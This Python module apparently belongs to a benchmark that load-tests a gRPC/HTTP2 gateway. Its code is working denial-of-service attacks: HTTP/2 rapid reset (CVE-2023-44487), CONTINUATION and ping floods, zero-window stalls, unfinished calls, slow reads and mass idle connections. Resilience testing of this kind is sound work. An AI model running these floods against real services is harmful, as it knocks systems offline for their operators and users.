"""The attacks. Each is a generator that yields after every step the number of units (calls, frames) it sent.

When the gateway closes the connection, the generator ends with an `OSError` and is started again.
"""

from __future__ import annotations

import select
import socket
import struct
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack
from dataclasses import dataclass, replace
from itertools import islice

from benchmarks.abuse import frames
from benchmarks.abuse.readers import HTTP1, MANNERS, NOT_AT_ALL, SLOWLY, Wanted, read_slowly

ANSWER = "/ragproto.query.v2.QueryService/Answer"
LIST = "/ragproto.documents.v1.DocumentService/List"
IDLE_CONNECTIONS = 1000
OPEN_STREAMS = 120
_QUERY = frames.message(b"\x0a\x04bell")
_MALFORMED = (b"\xff\0\0\0\5hello", b"\0\0\0\1\0hello", frames.message(b"\xff" * 5), b"\1\0\0\0\5hello", b"")
_NO_WINDOW = struct.pack(">HI", 4, 0)
_PER_CONNECTION = 10_000


@dataclass(frozen=True, slots=True)
class Target:
    """Where to, from which addresses of this machine, and a token of the attacker's own tenant for each."""

    address: str
    sources: Sequence[str]
    tokens: Sequence[str]

    @property
    def source(self) -> str:
        return self.sources[0]

    @property
    def token(self) -> str:
        return self.tokens[0]

    @property
    def own(self) -> tuple[str, str]:
        return ("authorization", f"Bearer {self.token}")


Steps = Callable[[Target], Iterator[int]]
_KEY = ("x-api-key", frames.NO_KEY)


@dataclass(frozen=True, slots=True)
class Attack:
    """`rate` units a second at most, from so many `addresses`."""

    rate: float
    steps: Steps
    addresses: int = 1


def _calls(
    target: Target, headers: frames.Headers, bodies: Sequence[bytes], *, path: str = frames.SEARCH
) -> Iterator[int]:
    """Whole calls, one after the other on connections of many."""
    block = frames.block(headers, path)
    with frames.connect(target.address, source=target.source) as opened:
        for number, stream in enumerate(frames.streams(_PER_CONNECTION)):
            opened.sendall(frames.call(stream, block, bodies[number % len(bodies)]))
            _discard(opened)
            yield 1


def _with(bodies: Sequence[bytes], *extra: tuple[str, str], path: str = frames.SEARCH) -> Steps:
    """Calls with a token of the attacker's own."""
    return lambda target: _calls(target, (target.own, *extra), bodies, path=path)


def _with_key(bodies: Sequence[bytes]) -> Steps:
    return lambda target: _calls(target, (_KEY,), bodies)


def _unfinished(body: bytes, *, key: bool) -> Steps:
    """Calls whose body never ends, over and over as the gateway gives them up."""

    def steps(target: Target) -> Iterator[int]:
        block = frames.block((_KEY if key else target.own,))
        with ExitStack() as stack:
            halves = OPEN_STREAMS // 2
            pair = [stack.enter_context(frames.connect(target.address, source=target.source)) for _ in range(2)]
            for stream in frames.streams(_PER_CONNECTION):
                for opened in pair:
                    opened.sendall(frames.call(stream, block, body, end=False))
                    _discard(opened)
                    yield 1
                if stream > 2 * halves:
                    time.sleep(0.1)  # they are open; now and then one ends and another takes its place

    return steps


def _reset(headers_of: Callable[[Target], frames.Headers], *, body: bool) -> Steps:
    """Calls that are taken back at once: CVE-2023-44487."""

    def steps(target: Target) -> Iterator[int]:
        block = frames.block(headers_of(target))
        with frames.connect(target.address, source=target.source) as opened:
            ids = iter(frames.streams(_PER_CONNECTION))
            while some := list(islice(ids, 100 if not body else 5)):
                cancel = struct.pack(">I", 8)
                opened.sendall(
                    b"".join(
                        (frames.call(stream, block, _QUERY) if body else frames.headers(stream, block))
                        + frames.frame(frames.RESET, 0, stream, cancel)
                        for stream in some
                    )
                )
                _discard(opened)
                yield len(some)

    return steps


def _continuation(target: Target) -> Iterator[int]:
    """A header block without end: CVE-2024-27316 and its like."""
    with frames.connect(target.address, source=target.source) as opened:
        opened.sendall(frames.frame(frames.HEADERS, frames.END_STREAM, 1, frames.block(())))
        while True:
            opened.sendall(frames.frame(frames.CONTINUATION, 0, 1, b"\0\1a\1b" * 10) * 10)
            _discard(opened)
            yield 10


def _pings(target: Target) -> Iterator[int]:
    with frames.connect(target.address, source=target.source) as opened:
        while True:
            opened.sendall(frames.frame(frames.PING, 0, 0, b"abcdefgh") * 100)
            _discard(opened)
            yield 100


def _zero_window(target: Target) -> Iterator[int]:
    """Searches whose answers may not be sent."""
    block = frames.block((target.own,))
    with frames.connect(target.address, settings=_NO_WINDOW, source=target.source) as opened:
        for stream in frames.streams(_PER_CONNECTION):
            opened.sendall(frames.call(stream, block, _QUERY))
            yield 1


def _idle(target: Target) -> Iterator[int]:
    with ExitStack() as stack:
        for _ in range(IDLE_CONNECTIONS):
            stack.enter_context(frames.connect(target.address, source=target.source))
            yield 1
        while True:
            time.sleep(0.1)
            yield 0


def _spin(_: Target) -> Iterator[int]:
    """Not an attack: the load of an honest neighbour of the same processor time."""
    while True:
        sum(range(1000))
        yield 0


def _discard(opened: socket.socket) -> None:
    """Read what is there, for a client that does not read is stopped by flow control."""
    poll = select.poll()
    poll.register(opened, select.POLLIN)
    while poll.poll(0):
        if not opened.recv(1 << 16):
            raise ConnectionResetError


def _unread(wanted: Wanted, manner: str) -> Steps:
    """Answers that are not read, or hardly; asked for with tokens unless anybody may have them."""

    def steps(target: Target) -> Iterator[int]:
        owned = [
            replace(wanted, headers=(*wanted.headers, ("authorization", f"Bearer {token}"))) for token in target.tokens
        ]
        return read_slowly(target.address, target.sources, owned if wanted.body else [wanted], manner)

    return steps


PAGE, DESCRIPTION = Wanted("/docs/reference/commands.md"), Wanted("/openapi.json")
STREAMED = Wanted(ANSWER, _QUERY, frames.GRPC)
LARGE = Wanted(frames.SEARCH, _QUERY, frames.GRPC)
LARGE_JSON = Wanted("/api/v2/search", b'{"query": "bell"}', (("content-type", "application/json"),))
ADDRESSES = (1, 2, 8, 32)
_SLOW = (NOT_AT_ALL, SLOWLY)
UNREAD = {
    **{("public page", manner): PAGE for manner in MANNERS},
    **{("API description", manner): DESCRIPTION for manner in _SLOW},
    **{("streamed answers, own tokens", manner): STREAMED for manner in _SLOW},
    **{("large answers, own tokens", manner): LARGE_JSON if manner == HTTP1 else LARGE for manner in MANNERS},
}
"""What is asked for and how it is read."""
_CALLS = 50
"""Calls a second with tokens: what 32 clients may send for long. More is a load of its own, however it is read."""
BENIGN = "benign"
ATTACKS = {
    **{
        f"{what}, {manner}, {number} addresses": Attack(_CALLS if wanted.body else 500, _unread(wanted, manner), number)
        for (what, manner), wanted in UNREAD.items()
        for number in ADDRESSES
    },
    "malformed messages, made-up keys": Attack(500, _with_key(_MALFORMED)),
    "malformed messages, own token": Attack(500, _with(_MALFORMED)),
    "deadlines of 1 ns, own token": Attack(500, _with([_QUERY], ("grpc-timeout", "1n"))),
    "deadlines of 4 ms, own token": Attack(500, _with([_QUERY], ("grpc-timeout", "4m"))),
    "searches taken back, own token": Attack(500, _reset(lambda target: (target.own,), body=True)),
    "made-up API keys": Attack(500, _with_key([_QUERY])),
    "documents while their database is away": Attack(500, _with([frames.message(b"")], path=LIST)),
    "headers without a body, made-up keys": Attack(500, _unfinished(b"", key=True)),
    "headers without a body, own token": Attack(500, _unfinished(b"", key=False)),
    "messages cut short, own token": Attack(500, _unfinished(_QUERY[:-2], key=False)),
    "rapid reset": Attack(20_000, _reset(lambda _: (), body=False)),
    "rapid reset, made-up keys": Attack(20_000, _reset(lambda _: (_KEY,), body=False)),
    "CONTINUATION flood": Attack(20_000, _continuation),
    "ping flood": Attack(20_000, _pings),
    "zero windows, own token": Attack(500, _zero_window),
    "1,000 idle connections": Attack(500, _idle),
    BENIGN: Attack(1e9, _spin),
}
